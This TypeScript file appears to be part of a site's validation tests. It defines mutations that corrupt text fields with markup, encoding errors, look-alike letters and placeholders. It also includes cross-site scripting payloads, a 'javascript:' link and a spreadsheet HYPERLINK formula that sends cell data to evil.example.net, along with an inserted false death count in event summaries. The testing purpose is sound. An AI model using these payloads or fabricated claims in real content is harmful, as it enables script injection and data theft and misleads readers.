import { inField } from '../field-kind.ts';
import type { Field } from '../fields.ts';
import type { Kind } from '../kind.ts';
import type { EntryFile } from '../story.ts';
import { inProse } from '../text-kind.ts';

/** What may stand before or behind the words of a text, or in their place. */
const added = (name: string, ...texts: readonly [string, ...string[]]): Kind[] => [
	inField(`text: ${name}`, 'text', (text, { random }) => `${text} ${random.pick(texts)}`),
];

/** A whole text that says something else than it should. */
const instead = (name: string, ...texts: readonly [string, ...string[]]): Kind =>
	inField(`text: ${name}`, 'text', (_text, { random }) => random.pick(texts));

/** Puts words into the first claim of a page that has words of its own. */
const inClaim = (prose: string, words: string): string =>
	prose.replace(/(<Claim id="[^"]+">)/, `$1${words} `);

const MARKUP = ['<b>bold</b>', '<br>', '<span class="x">words</span>', '<!-- a note -->', '</p>'] as const;
const SCRIPT = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'</script><script>alert(1)</script>',
	'<svg onload=alert(1)>',
	'"><script>alert(1)</script>',
] as const;

/** Whether a text is in words of the site; titles and names of sources are kept as others wrote them. */
const isOurs = ({ form, name }: Field, { collection }: EntryFile): boolean =>
	form === 'text' && (collection !== 'sources' || name === 'note');

/** Texts of an editor's haste, and of a hostile hand. */
export const TEXT: readonly Kind[] = [
	...added('markup', ...MARKUP),
	...added('script', ...SCRIPT),
	...added('entity of HTML', '&amp;', '&nbsp;', '&#8217;', '&lt;b&gt;'),
	...added('template syntax', '{{ title }}', '${title}', '{% if x %}', '<%= x %>'),
	...added('Markdown', '**bold words**', '[words](/disputed/)', '`code`', '![a picture](a.png)'),
	...added('web address', 'https://www.dawn.com/news/1806551', 'www.dawn.com', 'javascript:alert(1)'),
	inField(
		'text: note to oneself',
		isOurs,
		(text, { random }) => `${text} ${random.pick(['TODO: check this', '[citation needed]', 'XXX', 'FIXME'])}`,
	),
	...added('mark of a merge', '<<<<<<< HEAD', '>>>>>>> main'),
	...added('word without an end', 'a'.repeat(400)),
	...added('heap of accents', `Z${'\u0300\u0301\u0302\u0303'.repeat(20)}`),
	...added('wrong encoding', 'Iranâ€™s', 'PanjgÃ¼r', 'Ø³Ø¨Ø²'),
	instead(
		'placeholder',
		'Lorem ipsum dolor sit amet, consectetur adipiscing elit',
		'TODO TODO TODO TODO TODO TODO',
		'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
		'???????????????????????????????????????????',
	),
	inField(
		'text: digits alone',
		({ form, name }) => form === 'text' && !/locator|dateNote|given/.test(name),
		() => '1234567890 1234567890 1234567890 1234567890',
	),
	instead('emoji alone', '🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂'),
	inField(
		'text: formula',
		'text',
		(text, { random }) =>
			`${random.pick(['=', '+', '-', '@', '\t='])}HYPERLINK("https://evil.example.net/?"&A1,"x") ${text}`,
	),
	inField('text: space before', 'text', (text) => `  ${text}`),
	inField('text: space behind', 'text', (text) => `${text} `),
	inField('text: line break within', 'text', (text) =>
		text.includes(' ') ? text.replace(' ', '\n') : undefined,
	),
	inField('text: paragraphs', 'text', (text) => (text.includes(' ') ? text.replace(' ', '\n\n') : undefined)),
	inField('text: tab within', 'text', (text) => (text.includes(' ') ? text.replace(' ', '\t') : undefined)),
	inField('text: two spaces', 'text', (text) => (text.includes(' ') ? text.replace(' ', '  ') : undefined)),
	inField('text: no-break space', 'text', (text) =>
		text.includes(' ') ? text.replace(' ', '\u00a0') : undefined,
	),
	inField('text: huge', 'text', (text) => `${text} `.repeat(Math.ceil(100_000 / (text.length + 1))).trim()),
	inField('text: look-alike letter', 'text', (text) =>
		/[A-Za-z]{2}a|a[A-Za-z]{2}/.test(text)
			? text.replace(/([A-Za-z]{2})a|a([A-Za-z]{2})/, '$1\u0430$2')
			: undefined,
	),
	inField('text: wide letters', 'text', (text) =>
		/[A-Z]/.test(text)
			? text.replace(/[A-Z]/, (letter) => String.fromCodePoint(letter.codePointAt(0)! + 0xfee0))
			: undefined,
	),
	inField('text: ligature', 'text', (text) =>
		/fi|fl/.test(text) ? text.replace('fi', 'ﬁ').replace('fl', 'ﬂ') : undefined,
	),
	inField('text: accents apart', 'text', (text) =>
		text.normalize('NFD') === text ? undefined : text.normalize('NFD'),
	),
	inField(
		'question: without its mark',
		({ name }) => name === 'question',
		(text) => text.replace(/[?؟]/, '.'),
	),
	inField(
		'question: mark in the middle',
		({ name }) => name === 'question',
		(text) => `${text} Or not.`,
	),
	inField(
		'summary of an event: counts the dead',
		({ name }, { collection }) => collection === 'events' && name === 'summary',
		(text) => (text.length < 350 ? `${text} Twelve people were killed.` : undefined),
	),
	inField(
		'text: word of the list',
		// The list is of English words; other languages have lists of their own.
		({ name }, { collection }) =>
			/^(?:summary|reasoning|meaning)$/.test(name) && !collection.startsWith('translated'),
		(text) => `Recently ${text}`.slice(0, 280),
	),

	inProse('prose: placeholder', (prose) => inClaim(prose, 'TODO: say who.')),
	inProse('prose: wrong encoding', (prose) => inClaim(prose, 'Iranâ€™s army said')),
	inProse('prose: look-alike letter', (prose) => inClaim(prose, 'Ir\u0430n said')),
	inProse('prose: word without an end', (prose) => inClaim(prose, 'a'.repeat(400))),
	inProse(
		'prose: word of the list',
		(prose) =>
			`${prose}\nRecently <Claim id="${/<Claim id="([^"]+)/.exec(prose)?.[1]}">it was said again</Claim>.\n`,
	),
];
